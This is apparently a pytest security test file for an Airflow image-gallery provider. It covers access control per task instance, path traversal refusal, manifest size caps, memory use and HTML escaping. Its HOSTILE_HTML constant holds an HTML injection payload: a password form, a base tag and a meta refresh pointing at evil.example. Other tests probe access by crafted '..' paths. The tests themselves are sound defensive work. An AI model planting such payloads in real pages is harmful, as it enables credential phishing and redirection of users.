"""The gallery against people, in a real ``airflow api-server``: a manifest is shown only for the task
instance that wrote it, from that task instance's own folder under the allowed roots; nothing of it
becomes markup (checked in headless Chromium); a manifest of 150,000 images costs the server a flat
amount of memory and is shown a page at a time.

The task instances of ``gallery_open_dag.py`` (which every test user may read) get their XCom
``manifest`` set through Airflow's REST API by ``author``, who may edit that DAG but not read the
gallery test DAG, as anyone who may edit XComs (or write a DAG) could.
"""

from __future__ import annotations

import hashlib
import json
import os
import threading
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from gallery_support import MAX_MANIFEST_MIB, OPEN_DAG_ID, READER, GalleryRun
from support.auth_manager import AUTHOR, OUTSIDER
from support.browser import elements, rendered_dom

from airflow_provider_xai_image.storage.layout import MANIFEST_NAME, task_output_path

pytestmark = pytest.mark.dag

ROUTES = ("gallery", "manifest", "images/{name}")
#: A form asking for a password, a base re-pointing every relative link, a refresh to another site.
HOSTILE_HTML = (
    '<form action="https://evil.example/"><input type="password" name="p"></form>'
    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">'
)
FINGERPRINT = "0123456789ab"
LARGE_IMAGES = 150_000
#: How much the API server's memory may grow while 8 thumbnails of the large manifest are asked at once.
RSS_GROWTH_BOUND = 100 * 2**20


def own_manifest_uri(gallery: GalleryRun, task_id: str) -> str:
    """Where the provider puts the manifest of a task instance of the open DAG (under the output root)."""
    folder = task_output_path(gallery.output.as_uri(), gallery.run_id(OPEN_DAG_ID), task_id, -1)
    return str(folder / MANIFEST_NAME)


def local(uri: str) -> Path:
    """The local path of a ``file://`` URI."""
    return Path(urlsplit(uri).path)


def image_entry(folder_uri: str, index: int, text: str = "", **fields: Any) -> dict[str, Any]:
    """One image of a crafted manifest."""
    return {
        "uri": f"{folder_uri}/p{index:05d}-i00-{FINGERPRINT}.jpg",
        "prompt_index": index,
        "image_index": 0,
        "prompt": f"Prompt {index}{text}",
        "revised_prompt": f"Revised {index}{text}",
        "model": f"grok-imagine-image{text}",
        "mime_type": "image/jpeg",
        "bytes": 1000,
        "sha256": "0" * 64,
        "cost_usd_ticks": 200_000_000,
        "moderation": "passed",
        "error": None,
        **fields,
    }


def write_manifest(
    gallery: GalleryRun,
    uri: str,
    images: Iterator[dict[str, Any]] | list[dict[str, Any]],
    *,
    task_id: str,
    owner: dict[str, Any] | None = None,
    **sections: Any,
) -> None:
    """Write a manifest at ``uri`` (a ``file://`` URI) listing ``images`` one at a time; by default it
    records the open DAG's task instance ``task_id`` and the output root as its ``output_uri``."""
    path = local(uri)
    path.parent.mkdir(parents=True, exist_ok=True)
    if owner is None:
        owner = {"dag_id": OPEN_DAG_ID, "run_id": gallery.run_id(OPEN_DAG_ID), "task_id": task_id, "map_index": -1}
    rest = {
        "errors": [],
        "superseded": [],
        "totals": {"images": 0},
        "parameters": {"output_uri": gallery.output.as_uri()},
        **sections,
    }
    with path.open("w") as sink:
        sink.write('{"images":[')
        for number, image in enumerate(images):
            sink.write(("," if number else "") + json.dumps(image))
        sink.write("]," + json.dumps(rest)[1:-1])
        if owner:
            sink.write(',"task_instance":' + json.dumps(owner))
        sink.write("}")


def copy_real_image(gallery: GalleryRun, folder: Path, index: int) -> bytes:
    """Put one of the gallery test DAG's real images into ``folder`` under the name of image ``index``."""
    source = local(gallery.result.xcom("generate", key="manifest")).parent
    data = next(source.glob("p*.jpg")).read_bytes()
    folder.mkdir(parents=True, exist_ok=True)
    (folder / f"p{index:05d}-i00-{FINGERPRINT}.jpg").write_bytes(data)
    return data


def assert_not_shown(gallery: GalleryRun, task_id: str, name: str, reason: str, users: tuple[str, ...]) -> None:
    """Page, manifest and image ``name`` of the open DAG's ``task_id`` are 404 for each of ``users``, and
    what the server logs meanwhile says ``reason``."""
    logged = gallery.server.log_size()
    for user in users:
        for route in ROUTES:
            response = gallery.get(gallery.path(task_id, route.format(name=name), dag_id=OPEN_DAG_ID), user=user)
            assert response.status_code == 404, (user, route, response.text[:300])
            assert not response.content.startswith(b"\xff\xd8"), (user, route)
            assert response.headers["x-content-type-options"] == "nosniff"
    log = gallery.server.log_since(logged)
    assert f"for task instance dag_id='{OPEN_DAG_ID}'" in log
    assert reason in log


def test_an_xcom_pointed_at_another_dags_manifest_shows_nothing(gallery: GalleryRun) -> None:
    denied_uri = gallery.result.xcom("generate", key="manifest")
    denied = json.loads(local(denied_uri).read_bytes())
    name = next(image["uri"] for image in denied["images"] if image["uri"]).rsplit("/", 1)[1]
    assert gallery.get(gallery.path("generate", f"images/{name}"), user=AUTHOR).status_code == 403

    gallery.set_manifest_xcom("pointer", denied_uri)

    assert_not_shown(gallery, "pointer", name, "belongs to another task instance", (AUTHOR, OUTSIDER, READER))
    page = gallery.get(gallery.path("pointer", "gallery", dag_id=OPEN_DAG_ID), user=OUTSIDER)
    assert "lighthouse" not in page.text
    assert "no image manifest the gallery may show" in page.text


def test_a_manifest_outside_the_task_instance_folder_or_the_allowed_roots_is_refused(gallery: GalleryRun) -> None:
    """Each manifest records the right task instance and lists a real image beside it."""
    own = local(own_manifest_uri(gallery, "elsewhere"))
    places = {
        "not in the task instance's folder": own.parent.parent / "elsewhere-copy" / MANIFEST_NAME,
        "outside [xai_image] gallery_allowed_roots": gallery.output.parent / "outside" / MANIFEST_NAME,
        "'.' or '..' segments": gallery.output / "x" / ".." / own.relative_to(gallery.output),
    }
    for reason, path in places.items():
        uri = path.as_uri() if ".." not in path.parts else f"file://{path}"
        folder = uri.rsplit("/", 1)[0]
        write_manifest(gallery, uri, [image_entry(folder, 0)], task_id="elsewhere")
        copy_real_image(gallery, Path(os.path.normpath(path.parent)), 0)
        gallery.set_manifest_xcom("elsewhere", uri)
        assert_not_shown(gallery, "elsewhere", f"p00000-i00-{FINGERPRINT}.jpg", reason, (READER, AUTHOR))


def test_a_manifest_without_task_instance_is_refused_and_a_rewritten_one_read_again(gallery: GalleryRun) -> None:
    """Manifests written before task instances were recorded are not shown; once rewritten (here: with
    its task instance), the gallery reads the manifest again instead of answering from its cache."""
    uri = own_manifest_uri(gallery, "legacy")
    folder = uri.rsplit("/", 1)[0]
    data = copy_real_image(gallery, local(folder), 0)
    write_manifest(gallery, uri, [image_entry(folder, 0)], task_id="legacy", owner={})
    gallery.set_manifest_xcom("legacy", uri)
    assert_not_shown(gallery, "legacy", f"p00000-i00-{FINGERPRINT}.jpg", "records no task instance", (READER,))

    write_manifest(gallery, uri, [image_entry(folder, 0)], task_id="legacy")
    image = gallery.get(gallery.path("legacy", f"images/p00000-i00-{FINGERPRINT}.jpg", dag_id=OPEN_DAG_ID))
    assert image.status_code == 200, image.text
    assert image.content == data
    assert gallery.get(gallery.path("legacy", "manifest", dag_id=OPEN_DAG_ID)).json()["task_instance"]["task_id"] == (
        "legacy"
    )


def test_a_manifest_above_the_cap_is_refused_with_a_message(gallery: GalleryRun) -> None:
    uri = own_manifest_uri(gallery, "elsewhere")
    path = local(uri)
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("wb") as sparse:
        sparse.truncate((MAX_MANIFEST_MIB + 1) * 2**20)
    gallery.set_manifest_xcom("elsewhere", uri)

    page = gallery.get(gallery.path("elsewhere", "gallery", dag_id=OPEN_DAG_ID))
    assert page.status_code == 404
    assert f"larger than the gallery reads ({MAX_MANIFEST_MIB} MiB" in page.text
    assert "gallery_max_manifest_mib" in page.text
    manifest = gallery.get(gallery.path("elsewhere", "manifest", dag_id=OPEN_DAG_ID))
    assert manifest.status_code == 404
    assert "gallery_max_manifest_mib" in manifest.json()["detail"]


def hostile_manifest(gallery: GalleryRun, uri: str) -> None:
    """A manifest of the open DAG's ``hostile`` with :data:`HOSTILE_HTML` in every text it has."""
    folder = uri.rsplit("/", 1)[0]
    stored = image_entry(
        folder, 0, HOSTILE_HTML, uri=f"{folder}/{HOSTILE_HTML.replace('/', '_')}.jpg", sha256=HOSTILE_HTML
    )
    filtered = image_entry(folder, 1, HOSTILE_HTML, uri=None, moderation="filtered", error=HOSTILE_HTML)
    totals = dict.fromkeys(
        ("images", "filtered", "failed_requests", "cost_usd_ticks", "possibly_billed_usd_ticks", "elapsed_seconds"),
        HOSTILE_HTML,
    )
    write_manifest(
        gallery,
        uri,
        [stored, filtered],
        task_id="hostile",
        errors=[{"prompt_index": HOSTILE_HTML, "prompt": HOSTILE_HTML, "error": HOSTILE_HTML}],
        superseded=[{"prompt_index": 2, "fingerprint": HOSTILE_HTML, "uris": [HOSTILE_HTML]}],
        totals=totals,
        parameters={"output_uri": gallery.output.as_uri(), "prompt": HOSTILE_HTML},
    )


def test_html_in_every_text_of_a_manifest_renders_inert_in_a_browser(
    gallery: GalleryRun, chromium: str, tmp_path: Path
) -> None:
    uri = own_manifest_uri(gallery, "hostile")
    hostile_manifest(gallery, uri)
    gallery.set_manifest_xcom("hostile", uri)

    response = gallery.get(gallery.path("hostile", "gallery", dag_id=OPEN_DAG_ID))
    assert response.status_code == 200, response.text
    policy = response.headers["content-security-policy"]
    for directive in ("form-action 'none'", "base-uri 'none'", "default-src 'none'"):
        assert directive in policy
    assert response.headers["x-content-type-options"] == "nosniff"
    assert response.headers["referrer-policy"] == "no-referrer"
    page = tmp_path / "gallery.html"
    page.write_bytes(response.content)

    dom = rendered_dom(chromium, page)
    tags = elements(dom)
    names = [tag for tag, _ in tags]
    assert "form" not in names
    assert "input" not in names
    assert "base" not in names
    assert not [attrs for tag, attrs in tags if tag == "meta" and "http-equiv" in attrs]
    links = [value for _, attrs in tags for key, value in attrs.items() if key in ("href", "src", "action")]
    assert links
    assert all("://" not in (link or "") for link in links), links
    # the texts are there, as text: prompt, revised prompt, model and the error (the filtered image's)
    assert dom.count(HOSTILE_HTML.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")) >= 6
    assert names.count("figure") == 2

    manifest = gallery.get(gallery.path("hostile", "manifest", dag_id=OPEN_DAG_ID))
    assert manifest.status_code == 200
    assert manifest.headers["content-type"] == "application/json"
    assert manifest.headers["x-content-type-options"] == "nosniff"
    assert manifest.headers["referrer-policy"] == "no-referrer"
    assert manifest.json()["errors"][0]["error"] == HOSTILE_HTML


def process_tree_rss(pid: int) -> int:
    """The resident memory of a process and all its descendants, in bytes (from ``/proc``)."""
    total, pending = 0, [pid]
    while pending:
        current = pending.pop()
        try:
            status = Path(f"/proc/{current}/status").read_text()
            children = [
                child
                for task in Path(f"/proc/{current}/task").iterdir()
                for child in (task / "children").read_text().split()
            ]
        except (FileNotFoundError, ProcessLookupError):
            continue
        rss = next(line for line in status.splitlines() if line.startswith("VmRSS:"))
        total += int(rss.split()[1]) * 1024
        pending += [int(child) for child in children]
    return total


class PeakRss:
    """The highest :func:`process_tree_rss` of ``pid`` seen while the context is open (sampled every 50 ms)."""

    def __init__(self, pid: int) -> None:
        self.pid = pid
        self.peak = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._sample, daemon=True)

    def _sample(self) -> None:
        while not self._stop.is_set():
            self.peak = max(self.peak, process_tree_rss(self.pid))
            time.sleep(0.05)

    def __enter__(self) -> PeakRss:
        self._thread.start()
        return self

    def __exit__(self, *exc_info: object) -> None:
        self._stop.set()
        self._thread.join()
        self.peak = max(self.peak, process_tree_rss(self.pid))


def test_a_150000_image_manifest_keeps_memory_flat_and_its_page_paginated(gallery: GalleryRun) -> None:
    uri = own_manifest_uri(gallery, "large")
    folder = uri.rsplit("/", 1)[0]
    asked = [index * (LARGE_IMAGES // 8) + 7 for index in range(8)]
    images = {index: copy_real_image(gallery, local(folder), index) for index in asked}
    write_manifest(
        gallery,
        uri,
        (image_entry(folder, index, ": a lighthouse at dusk over a stormy sea") for index in range(LARGE_IMAGES)),
        task_id="large",
        totals={"images": LARGE_IMAGES},
    )
    assert local(uri).stat().st_size > 60 * 2**20
    gallery.set_manifest_xcom("large", uri)
    # the server has imported and warmed up everything a gallery request needs (on a small manifest)
    warm = gallery.get(gallery.path("legacy", f"images/p00000-i00-{FINGERPRINT}.jpg", dag_id=OPEN_DAG_ID))
    assert warm.status_code in (200, 404)
    before = process_tree_rss(gallery.server.process.pid)

    def thumbnail(index: int) -> tuple[int, int, bytes]:
        path = gallery.path("large", f"images/p{index:05d}-i00-{FINGERPRINT}.jpg", dag_id=OPEN_DAG_ID)
        response = gallery.get(path, timeout=300)
        return index, response.status_code, response.content

    with PeakRss(gallery.server.process.pid) as rss, ThreadPoolExecutor(8) as pool:
        answers = list(pool.map(thumbnail, asked))
    for index, status, content in answers:
        assert status == 200, (index, content[:300])
        assert hashlib.sha256(content).digest() == hashlib.sha256(images[index]).digest()
    assert rss.peak - before < RSS_GROWTH_BOUND, (before, rss.peak)

    first = gallery.get(gallery.path("large", "gallery", dag_id=OPEN_DAG_ID))
    assert first.status_code == 200
    assert len(first.content) < 200_000
    assert first.text.count("<img ") == 60
    assert f'<img src="images/p00000-i00-{FINGERPRINT}.jpg"' in first.text
    assert "page 1 of 2,500" in first.text
    assert 'href="gallery?page=2"' in first.text
    assert 'rel="prev"' not in first.text
    second = gallery.get(gallery.path("large", "gallery", dag_id=OPEN_DAG_ID) + "?page=2")
    assert f'<img src="images/p00060-i00-{FINGERPRINT}.jpg"' in second.text
    assert 'href="gallery?page=1"' in second.text
    assert 'href="gallery?page=3"' in second.text
    last = gallery.get(gallery.path("large", "gallery", dag_id=OPEN_DAG_ID) + "?page=2500")
    assert f'<img src="images/p{LARGE_IMAGES - 1:05d}-i00-{FINGERPRINT}.jpg"' in last.text
    assert 'rel="next"' not in last.text
    assert gallery.get(gallery.path("large", "gallery", dag_id=OPEN_DAG_ID) + "?page=0").status_code == 422
    assert process_tree_rss(gallery.server.process.pid) - before < RSS_GROWTH_BOUND


@pytest.mark.parametrize("map_index", ["99999999999999999999999", str(2**31), "-2", "1e3"])
def test_a_map_index_out_of_the_database_range_is_422(gallery: GalleryRun, map_index: str) -> None:
    for route in ROUTES:
        response = gallery.get(gallery.path("mapped", route.format(name="x.jpg")) + f"?map_index={map_index}")
        assert response.status_code == 422, (route, response.text)
    largest = gallery.get(gallery.path("mapped", "manifest") + f"?map_index={2**31 - 1}")
    assert largest.status_code == 404
